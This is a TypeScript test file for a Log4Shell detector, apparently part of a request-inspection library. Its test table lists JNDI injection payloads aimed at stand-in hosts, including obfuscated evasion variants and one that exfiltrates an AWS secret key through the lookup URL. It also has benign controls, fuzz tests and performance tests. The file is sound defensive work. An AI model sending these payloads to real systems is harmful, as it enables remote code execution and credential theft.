import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isThreat } from '../../src/core/taxonomy.js';
import { evaluateLookups, log4shellDetector, mayBeLookup } from '../../src/detect/log4shell.js';
import type { InspectedValue, Paranoia } from '../../src/detect/types.js';
import { expectPrefilterSound } from './helpers.js';

const THRESHOLD = { 1: 0.7, 2: 0.5, 3: 0.3 } as const;

function fired(value: string, paranoia: Paranoia = 1): boolean {
  const input: InspectedValue = {
    value,
    location: 'header.user-agent',
    source: 'header',
    profile: 'generic',
  };
  return log4shellDetector
    .compile({ paranoia })(input)
    .some((f) => f.score >= THRESHOLD[paranoia]);
}

const ROWS: { input: string; expect: boolean; paranoia?: Paranoia; note?: string }[] = [
  { input: '${jndi:ldap://evil.example/a}', expect: true },
  { input: 'Mozilla/5.0 ${jndi:rmi://evil.example:1099/x}', expect: true },
  { input: '${jndi:dns://evil.example}', expect: true },
  { input: '${JNDI:LDAPS://evil.example/x}', expect: true },
  { input: '${jndi:iiop://e.example/x}', expect: true },
  { input: '${${lower:j}ndi:ldap://evil.example/a}', expect: true },
  { input: '${${upper:j}${upper:n}${lower:D}i:ldap://e.example/}', expect: true },
  { input: '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://e.example/a}', expect: true },
  { input: '${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://e.example/a}', expect: true },
  { input: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://e.example/a}", expect: true },
  { input: '$${env:x:-${env:y:-$}{jndi:ldap://e.example/a}}}', expect: true },
  { input: '$&lbrace;jndi:ldap://e.example/a}', expect: true },
  { input: '$\\u007bjndi:ldap://e.example/a}', expect: true },
  { input: '${jndi:ldap://e.example/${env:AWS_SECRET_ACCESS_KEY}}', expect: true },
  { input: '${jndi:ldap://evil.exa', expect: true, note: 'truncated' },
  { input: '${env:AWS_SECRET_ACCESS_KEY}', expect: false },
  { input: '${env:AWS_SECRET_ACCESS_KEY}', expect: true, paranoia: 2 },
  { input: '${sys:java.version}', expect: true, paranoia: 2 },
  // benign
  { input: 'Total: ${amount}', expect: false },
  { input: 'echo ${HOME}/bin', expect: false },
  { input: 'jndi is a Java naming API', expect: false },
  { input: 'price $5 {discount}', expect: false },
  { input: '${user.name} logged in', expect: false, paranoia: 3 },
];

describe('log4shell detector', () => {
  it.each(ROWS)('$input → $expect (PL $paranoia)', (row) => {
    expect(fired(row.input, row.paranoia)).toBe(row.expect);
  });

  it('evaluates nested lookups like Log4j', () => {
    expect(evaluateLookups('${${lower:J}${upper:n}${::-d}i:x}').text.toLowerCase()).toContain('${jndi:x}');
    expect(evaluateLookups('a${env:X:-b}c').text).toBe('abc');
  });

  it('reports the taxonomy ids and the location', () => {
    const [f] = log4shellDetector.compile({ paranoia: 1 })({
      value: 'ua ${jndi:ldap://x/a}',
      location: 'header.user-agent',
      source: 'header',
      profile: 'generic',
    });
    expect(f).toMatchObject({
      category: 'injection',
      subtype: 'code-injection',
      detector: 'log4shell',
      severity: 'critical',
      location: 'header.user-agent',
      fragment: '${jndi:ldap://x/a}',
    });
  });

  it('never throws and always returns well-formed findings (fuzz)', () => {
    const pieces = [
      '$',
      '{',
      '}',
      '${',
      'jndi',
      ':',
      '-',
      '::-',
      'lower:',
      'env:',
      'j',
      'ldap://',
      '$&lbrace;',
      ' ',
    ];
    const arb = fc.oneof(
      fc.string({ maxLength: 200 }),
      fc.array(fc.constantFrom(...pieces), { maxLength: 80 }).map((a) => a.join('')),
    );
    fc.assert(
      fc.property(arb, fc.constantFrom<Paranoia>(1, 2, 3), (value, paranoia) => {
        for (const f of log4shellDetector.compile({ paranoia })({
          value,
          location: 'x',
          source: 'query',
          profile: 'generic',
        })) {
          expect(isThreat(f.category, f.subtype)).toBe(true);
          expect(f.score).toBeGreaterThanOrEqual(0.5);
          expect(f.score).toBeLessThanOrEqual(1);
          expect((f.fragment ?? '').length).toBeLessThanOrEqual(120);
        }
      }),
      { numRuns: 400 },
    );
  });

  it('stays linear on 1 MB of repeated near-matches', () => {
    const run = log4shellDetector.compile({ paranoia: 3 });
    for (const unit of ['${jndi:', '${${', '${::-j}', '$&lbrace;', '}', '${lower:${']) {
      const value = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
      const t0 = performance.now();
      run({ value, location: 'q', source: 'query', profile: 'generic' });
      expect(performance.now() - t0).toBeLessThan(500);
    }
  });
});

// The prefilter rejects a value before analysis only when the analysis provably finds nothing.
describe('log4shell prefilter (mayBeLookup)', () => {
  const pre = (v: string) => mayBeLookup(v);
  it('never rejects an attack row of the table above', () => {
    const attacks = ROWS.filter((row) => row.expect);
    expect(attacks.length).toBeGreaterThan(5);
    for (const row of attacks) expect(pre(row.input), row.input).toBe(true);
  });
  it('rejects typical benign values', () => {
    for (const v of ['shipping', '482913', "Pat O'Brien", 'user12@example.com', 'SKU-482913']) {
      expect(pre(v), v).toBe(false);
    }
  });
  it('rejects only values the detector reports nothing on (any profile, source, paranoia)', () => {
    const token = fc.constantFrom(
      '$',
      '{',
      '}',
      '${',
      'jndi:',
      'ldap:',
      '&lbrace;',
      '\\u007b',
      '%7b',
      '::-',
      'lower:',
      'env:',
      'a',
      '1',
      ' ',
    );
    expectPrefilterSound(log4shellDetector, pre, token);
  });
});
